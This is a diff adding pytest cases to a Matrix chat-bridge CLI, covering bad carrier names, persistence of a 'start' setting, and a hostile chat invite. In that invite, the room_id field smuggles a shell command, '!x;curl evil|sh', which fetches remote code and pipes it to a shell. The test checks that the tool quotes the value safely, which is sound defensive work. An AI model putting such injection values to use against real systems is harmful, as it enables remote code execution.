@@ -13,7 +13,7 @@ import pytest
 from pointerbridge.core.config import load_config
 from servers.synapse import Synapse, shared_server
 from test_cli import run
-from test_local_app import CHAT_SECRET, ok, pb
+from test_local_app import CHAT_SECRET, _invite, ok, pb
 
 BOT_PASSWORD = "the bots' password 9"
 LINES = [f"message {i:03d} from alice" for i in range(299)]
@@ -171,6 +171,9 @@ def test_bad_login_arguments_fail_before_the_password_is_asked(tmp_path: Path) -
     neither = run("--home", str(home), "carrier", "login", "matrix", "mx", "--homeserver", "http://127.0.0.1:9",
                   "--user", "bot")
     assert neither.returncode == 3 and "--create-room" in neither.stderr
+    badly_named = run("--home", str(home), "carrier", "login", "matrix", "My Bot", "--homeserver",
+                      "http://127.0.0.1:9", "--user", "bot", "--create-room")
+    assert badly_named.returncode == 3 and "carrier name" in badly_named.stderr
     unreachable = login(home, "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot", "--create-room")
     assert unreachable.returncode == 25 and "unreachable" in unreachable.stderr
 
@@ -181,3 +184,18 @@ def test_joining_a_matrix_chat_without_a_bot_says_how(room: dict[str, object], t
     result = pb(dave, "alice", "chat", "join", str(room["invite"]), secret=CHAT_SECRET)
     assert result["rc"] == "24" and "pbridge carrier login matrix mx" in result["err"]
     assert str(room["room_id"]) in result["err"] and not (dave / "config.toml").exists()
+    hostile = _invite({"v": 1, "chat": "trap", "carriers": {"mx": {
+        "type": "matrix", "homeserver": "http://x", "room_id": "!x;curl evil|sh"}}})
+    trapped = pb(dave, "alice", "chat", "join", hostile, secret=CHAT_SECRET)
+    assert trapped["rc"] == "24" and "--room '!x;curl evil|sh'" in trapped["err"]  # quoted for the shell
+
+
+def test_logging_in_again_keeps_the_chosen_start(tmp_path: Path) -> None:
+    server = shared_server()
+    name = bot(server, "startbot")
+    home = tmp_path / "home"
+    login_ok(home, "mx", "--homeserver", server.url, "--user", name, "--create-room")
+    assert load_config(home / "config.toml").carriers["mx"].settings["start"] == "history"  # a new bot's default
+    login_ok(home, "mx", "--start", "now")
+    login_ok(home, "mx")
+    assert load_config(home / "config.toml").carriers["mx"].settings["start"] == "now"
